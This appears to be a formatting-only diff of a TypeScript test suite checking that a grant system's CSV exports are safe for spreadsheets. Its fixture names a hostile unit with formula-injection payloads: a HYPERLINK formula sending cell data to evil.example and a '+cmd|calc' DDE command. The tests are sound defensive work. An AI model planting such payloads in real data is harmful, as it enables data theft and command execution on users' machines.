@@ -13,7 +13,10 @@ const stack = useLocalStack();
 const { api } = stack;
 const CALL = 'gdast-2024';
 const HOSTILE_UNIT = 'formula-society';
-const UNIT_NAME = { zh: '=HYPERLINK("http://evil.example/?d="&A1,"广东省公式学会")', en: '+cmd|calc!A0 Formula Society' };
+const UNIT_NAME = {
+  zh: '=HYPERLINK("http://evil.example/?d="&A1,"广东省公式学会")',
+  en: '+cmd|calc!A0 Formula Society',
+};
 
 interface Applied {
   token: string;
@@ -36,7 +39,10 @@ beforeAll(async () => {
   ];
   for (const [unitId, typeId, title] of submissions) {
     const token = unitId === HOSTILE_UNIT ? await api.tokenFor(unitId) : await api.unitToken(unitId);
-    const answer = await api.request('POST', `/calls/${CALL}/applications`, { token, body: { ...example(typeId), title } });
+    const answer = await api.request('POST', `/calls/${CALL}/applications`, {
+      token,
+      body: { ...example(typeId), title },
+    });
     expect(answer.status).toBe(201);
     applied.push({ token, applicationId: answer.body.applicationId, title });
   }
@@ -45,10 +51,14 @@ beforeAll(async () => {
 
 /** A CSV download as a spreadsheet reads it: its header and its rows of cells. */
 async function download(route: string, token?: string): Promise<{ header: string[]; rows: string[][] }> {
-  const answer = await fetch(`${api.base}${route}`, { headers: { accept: 'text/csv', ...(token ? { authorization: `Bearer ${token}` } : {}) } });
+  const answer = await fetch(`${api.base}${route}`, {
+    headers: { accept: 'text/csv', ...(token ? { authorization: `Bearer ${token}` } : {}) },
+  });
   expect(answer.status).toBe(200);
   expect(answer.headers.get('content-type')).toMatch(/text\/csv/);
-  const [header, ...rows] = spreadsheetCells(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()));
+  const [header, ...rows] = spreadsheetCells(
+    new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()),
+  );
   return { header, rows };
 }
 
@@ -75,7 +85,9 @@ test('the staff results CSV', async () => {
 });
 
 test('the published results CSV, downloaded by anyone', async () => {
-  expect((await api.request('POST', `/calls/${CALL}/results/publish`, { token: await api.staffToken() })).status).toBe(200);
+  expect((await api.request('POST', `/calls/${CALL}/results/publish`, { token: await api.staffToken() })).status).toBe(
+    200,
+  );
   const file = await download(`/results/${CALL}`);
   expect(file.rows).toHaveLength(applied.length);
   expectSafe(file, ['排名', '评审得分', '资助金额']);
@@ -84,7 +96,14 @@ test('the published results CSV, downloaded by anyone', async () => {
 test('the overdue reports CSV', async () => {
   const staff = await api.staffToken();
   await stack.setClock('2024-06-01T09:00:00+08:00');
-  expect((await api.request('POST', `/calls/${CALL}/reporting-round`, { token: staff, body: { summaryDueOn: '2024-07-15' } })).status).toBe(200);
+  expect(
+    (
+      await api.request('POST', `/calls/${CALL}/reporting-round`, {
+        token: staff,
+        body: { summaryDueOn: '2024-07-15' },
+      })
+    ).status,
+  ).toBe(200);
   await stack.setClock('2024-07-16T10:00:00+08:00');
   const file = await download(`/calls/${CALL}/obligations?state=overdue`, staff);
   expect(file.rows).toHaveLength(applied.length); // each project's summary report, a day overdue
